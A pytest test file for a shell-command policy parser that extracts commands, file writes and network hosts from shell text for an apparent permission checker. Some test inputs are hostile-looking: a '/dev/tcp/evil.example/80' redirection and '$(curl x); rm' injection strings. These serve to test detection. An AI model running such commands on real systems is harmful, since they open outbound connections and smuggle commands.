from __future__ import annotations

import random
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.shell_texts import NOISE

from carrel.policy.shell import Unknown
from carrel.policy.shell.commands import read
from carrel.policy.shell.finder import FoundCommand, _UncertainFunctions, find, normal
from carrel.policy.shell.step_budget import MAX_TEXT
from carrel.policy.shell.syntax import TextFacts


@given(st.text(max_size=60))
def test_any_text_is_answered(text: str) -> None:
    find(text, cwd="/w")
    find(text, dialect="sh")


@given(
    st.lists(st.sampled_from([*NOISE, "a", "b", "x=", "eval ", "if ", "case ", "bash -c ", "find -exec "]), max_size=25)
)
def test_any_pile_of_syntax_is_answered(pieces: list[str]) -> None:
    find("".join(pieces), cwd="/w")


@given(st.lists(st.text(max_size=20), max_size=6))
def test_any_argument_list_is_answered(argv: list[str]) -> None:
    find(argv)


@pytest.mark.parametrize(
    "text", ["a\0b", "a\rb", "a\x1b[2Jb", "a\u202eb", "a\ud800", "x" * (MAX_TEXT + 1), "$(" * 200, "{ " * 3000]
)
def test_unusual_text_asks(text: str) -> None:
    assert find(text).asks


def test_depth_is_bounded_without_a_traceback() -> None:
    nested = "a"
    for _ in range(8):
        nested = f"bash -c {shlex.quote(nested)}"
    assert find(nested).commands[-1].arguments == ("a",)
    for _ in range(8):
        nested = f"bash -c {shlex.quote(nested)}"
    assert find(nested).asks
    assert find("; ".join(f"a {number}" for number in range(2000))).asks


def test_argument_lists_are_no_shell_text() -> None:
    found = find(["echo", "$(curl x); rm"])
    assert [command.text for command in found.commands] == ["echo '$(curl x); rm'"]
    assert not found.asks
    assert [command.arguments[0] for command in find(["env", "X=1", "bash", "-c", "a | b"]).commands] == [
        "env", "bash", "a", "b",
    ]  # fmt: skip
    assert find([]).asks


def test_redirections_are_files() -> None:
    found = find("a > x 2>> /tmp/y < ../z; cd sub && b > x; c > $q", cwd="/w")
    assert {(use.operation, use.path) for use in found.files} == {
        ("write", "/w/x"), ("write", "/tmp/y"), ("read", "/z"), ("write", "/w/sub/x"), ("write", None),
    }  # fmt: skip
    assert [use.path for use in find("cd sub && cd .. && cd q && a > ../x", cwd="/w").files] == ["/w/x"]
    assert {use.path for use in find("! cd sub && a > x", cwd="/w").files} == {"/w/x", "/w/sub/x"}
    assert {use.path for use in find("cd sub && b; a > x", cwd="/w").files} == {"/w/x", "/w/sub/x"}
    assert {use.path for use in find("cd sub || b && a > x", cwd="/w").files} == {"/w/x", "/w/sub/x"}
    assert find("a > /dev/null 2>&1 </dev/stdin").files == ()
    assert [(use.host, use.port) for use in find("a > /dev/tcp/evil.example/80").hosts] == [("evil.example", "80")]
    assert [use.path for use in find("env -C /q sh -c 'a > f'").files] == ["/q/f"]


def test_where_the_directory_is_not_known_neither_is_the_file() -> None:
    for text in ("cd; a > f", "cd $x; a > f", "cd -; a > f", "pushd x; a > f", "find . -execdir sh -c 'a > f' \\;"):
        assert [use.path for use in find(text, cwd="/w").files] == [None], text
    assert find("while a; do cd x; b > f; done", cwd="/w").asks
    assert [use.path for use in find("(cd x); a > f", cwd="/w").files] == ["/w/f"]


def test_a_definition_that_an_error_could_skip_is_not_certain_on_the_next_line() -> None:
    def names(text: str) -> set[object]:
        return {command.arguments[0] for command in find(text).commands}

    assert names("a ${!x}; f() { b; }\nf") == {"a", "b", "f"}
    assert names("a ${!x}; f() { b; }; f") == {"a", "b"}
    assert names("a; f() { b; }\nf") == {"a", "b"}
    assert names("a $x\nf() { b; }\nf") == {"a", "b"}
    assert names("g() { a ${!x}; }; g; f() { b; }\nf") == {"a", "b", "f"}


def test_what_it_is_run_by_is_told() -> None:
    found = find("timeout 5 env X=1 bash -c 'curl x'")
    assert found.commands[-1].via == ("timeout", "env", "bash")


def test_reading_takes_time_that_follows_the_length() -> None:
    for text in (
        "a " * 5000,
        "a$x" * 5000,
        "'" + "a" * 60_000 + "'",
        "{a,b}" * 30,
        "`a`" * 3000,
        "a=(" + "b " * 5000 + ")",
    ):
        find(text)
    rng = random.Random(3)
    find("".join(rng.choice(NOISE) for _ in range(20_000)))


@pytest.mark.parametrize(
    ("text", "gone"),
    [("f() { a; }\nb", set()), ("a; f() { a; }\nb", set()), ("a $x; f() { a; }\nb", {"f"}), ("x=1; f() { a; }\nb", {"f"}), ("g; f() { a; }\nb", {"f"}),
     ("((1)); f() { a; }\nb", {"f"}), ("a $x\nf() { a; }\nb", set()), ("a > $x; f() { a; }\nb", {"f"}), ("cd x; f() { a; }\nb", {"f"})],
)  # fmt: skip
def test_what_an_error_on_the_line_could_skip(text: str, gone: set[str]) -> None:
    block = read(text, TextFacts())
    uncertain = _UncertainFunctions(block)
    found = [uncertain.before(number, {"g"}) for number in range(len(block.nodes))]
    assert found[-1] == gone


def test_inside_a_block_nothing_is_dropped_by_itself() -> None:
    block = read("{ a $x; f() { b; }; c; }", TextFacts()).nodes[0]
    assert not getattr(block, "lines", ())


def test_a_command_as_a_person_would_write_it() -> None:
    assert FoundCommand(("echo", "a b", Unknown('"$x"', "one"))).text == "echo 'a b' \"$x\""


@given(st.lists(st.sampled_from(["a", "..", ".", "", "b"]), max_size=8))
def test_a_normal_path_is_absolute_and_stays_so(parts: list[str]) -> None:
    path = normal("/" + "/".join(parts))
    assert path == normal(path)
    assert path.startswith("/")
    assert not {".", ".."} & set(path.split("/"))
    assert "//" not in path


def test_reasons_come_in_the_same_order_in_every_process() -> None:
    found = find("x=$(a); y=$(b); z=$(c); w=$(d); echo $((x + z + w + y))")
    assert [reason.split("'")[1] for reason in found.asks] == ["z", "y", "x", "w"]
